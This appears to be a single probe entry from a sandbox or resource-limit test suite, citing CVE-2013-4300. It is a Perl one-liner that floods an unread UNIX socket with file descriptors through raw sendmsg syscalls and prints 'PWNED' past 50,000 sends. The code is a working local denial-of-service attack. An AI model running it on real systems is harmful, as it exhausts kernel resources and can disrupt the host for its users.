# tries: send descriptors through sockets that nobody empties
# from: CVE-2013-4300 and every leak by SCM_RIGHTS
tried descriptors-in-flight
perl -MSocket -e 'socketpair(my $r, my $w, AF_UNIX, SOCK_DGRAM, 0); fcntl($w, 4, 2048); my $n = 0; for (1..100000) { my ($d, $c) = ("x", pack("QiiiX4", 20, 1, 1, fileno($r)) . "\0" x 4); my $i = pack("PQ", $d, 1); my $m = pack("QiQQ", 0, 0, 0, 0); my $h = pack("QQ", 0, 0) . pack("P", $i) . pack("Q", 1) . pack("P", $c) . pack("QQ", 24, 0); last if syscall(46, fileno($w), $h, 0) < 0; $n++ } print "sent $n\n"; print "PWNED\n" if $n > 50000'
